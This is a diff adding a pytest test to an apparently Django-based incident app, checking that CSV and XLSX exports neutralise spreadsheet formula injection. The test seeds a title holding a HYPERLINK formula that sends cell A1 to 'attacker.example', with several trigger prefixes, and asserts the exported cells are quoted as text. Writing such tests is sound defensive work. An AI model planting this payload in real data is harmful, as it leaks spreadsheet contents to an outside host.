@@ -395,3 +395,29 @@ def test_filter_forms_use_the_python_drawn_selects(login, alice):
     widget = response.context["filter"].form.fields["country"].widget
     assert type(widget) is FastSelect
     assert '<option value="US" selected>' in response.content.decode()
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_exported_cells_never_become_formulas(trigger, login, alice):
+    import csv
+    import io
+
+    import openpyxl
+
+    from tests.factories import make_incident
+
+    title = f'{trigger}HYPERLINK("http://attacker.example/?x="&A1,"Click")'
+    make_incident(title=title)
+    client = login(alice)
+    url = reverse("incidents:incident_list")
+    body = b"".join(client.get(url, {"q": "HYPERLINK", "_export": "csv"}).streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert "'" + title in cells and title not in cells
+
+    response = client.get(url, {"q": "HYPERLINK", "_export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cells = [
+        cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value and "HYPERLINK" in str(cell.value)
+    ]
+    # XML reads a carriage return back as a line feed; the cell is still the neutralised text.
+    assert cells and all(cell.data_type == "s" and cell.value == "'" + title.replace("\r", "\n") for cell in cells)
